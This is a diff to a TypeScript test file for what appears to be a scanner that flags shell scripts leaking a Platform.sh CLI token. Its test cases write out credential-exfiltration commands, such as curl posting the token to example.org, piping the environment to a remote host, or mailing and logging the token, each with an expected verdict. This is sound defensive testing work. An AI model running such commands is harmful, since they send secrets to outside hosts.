@@ -27,6 +27,7 @@ function written(script: string): string {
 }
 
 const printing = [
+  'set -x; export COPY="$PLATFORMSH_CLI_TOKEN"',
   'echo "using $PLATFORMSH_CLI_TOKEN"',
   `printf '%s\\n' \${PLATFORMSH_CLI_TOKEN}`,
   'echo "$PLATFORMSH_CLI_TOKEN" 1>&2',
@@ -207,6 +208,12 @@ test.each([
   ['curl -d "$PLATFORMSH_CLI_TOKEN" https://example.org/ > /dev/null', 1],
   ['T="t=$PLATFORMSH_CLI_TOKEN"; wget -qO- "https://example.org/?$T"', 1],
   ["env | curl -fsS --data-binary @- https://example.org/", 1],
+  ['TO=https://example.org; curl -d "$PLATFORMSH_CLI_TOKEN" "$TO/x" > log', 1],
+  ['TO=https://api.upsun.com; curl -d "$PLATFORMSH_CLI_TOKEN" "$TO"', 0],
+  ['curl -d "$PLATFORMSH_CLI_TOKEN" "$(cat address)"', 0],
+  ['echo "$PLATFORMSH_CLI_TOKEN" | mail -s token ops@example.org', 1],
+  ['logger -t job "$PLATFORMSH_CLI_TOKEN" 2> /dev/null', 1],
+  ["date | mail ops@example.org; logger done", 0],
   ["date | curl -fsS --data-binary @- https://example.org/", 0],
   ['curl -fsS "https://example.org/?b=$PLATFORM_BRANCH"', 0],
   ["jq -n env", 1],
